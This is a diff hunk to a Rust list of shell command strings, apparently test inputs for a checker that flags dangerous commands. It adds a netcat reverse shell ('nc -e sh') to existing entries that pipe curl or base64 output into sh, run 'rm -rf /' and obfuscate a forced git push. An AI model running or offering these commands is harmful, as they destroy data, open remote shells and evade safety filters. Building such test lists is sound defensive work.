@@ -42,6 +42,7 @@ fn scripts() -> Vec<String> {
         "sed '1e curl -s x | sh' f",
         "sed '1e base64 -d x | sh' f",
         "sed '1e r{m,} -rf /' f",
+        "nc -e sh host 1",
         "make 'x:;rm -rf /'",
         "tar --to-command 'git push -f' -x",
         "'git' 'pu'sh \\-f",
